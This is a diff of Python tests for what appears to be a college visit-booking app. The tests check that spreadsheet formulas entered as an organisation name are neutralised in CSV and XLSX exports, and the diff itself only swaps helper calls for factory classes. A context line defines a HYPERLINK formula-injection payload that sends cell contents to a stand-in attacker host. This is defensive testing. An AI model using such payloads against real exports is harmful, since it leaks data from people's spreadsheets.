@@ -274,7 +274,7 @@ FORMULA = '=HYPERLINK("http://evil.example/?a="&A1,"x")'
 
 
 def test_a_formula_typed_as_work_unit_is_inert_in_the_request_list_csv(client, reception, slot):
-    make_visit(slot, organisation=FORMULA, status=Status.APPROVED)
+    VisitRequestFactory(slot=slot, organisation=FORMULA, status=Status.APPROVED)
     response = client.get("/admin/visits_requests/", {"export": "csv"})
     data = b"".join(response.streaming_content)
     assert data.startswith(b"\xef\xbb\xbf")  # a BOM, so that Excel reads the Chinese headings
@@ -286,9 +286,9 @@ def test_a_formula_typed_as_work_unit_is_inert_in_the_request_list_csv(client, r
 def test_a_formula_typed_as_work_unit_is_inert_in_the_roster_xlsx(client, reception, slot):
     from college.visits import services
 
-    from .factories import details
+    from .factories import VisitDetailsFactory
 
-    visit, _ = services.request_visit(slot.pk, details(2, organisation=FORMULA))
+    visit, _ = services.request_visit(slot.pk, VisitDetailsFactory(group_size=2, organisation=FORMULA))
     response = client.get(f"/admin/visits/request/{visit.pk}/roster.xlsx")
     sheet = load_workbook(io.BytesIO(response.content)).active
     cells = [row[2] for row in sheet.iter_rows(min_row=2)]
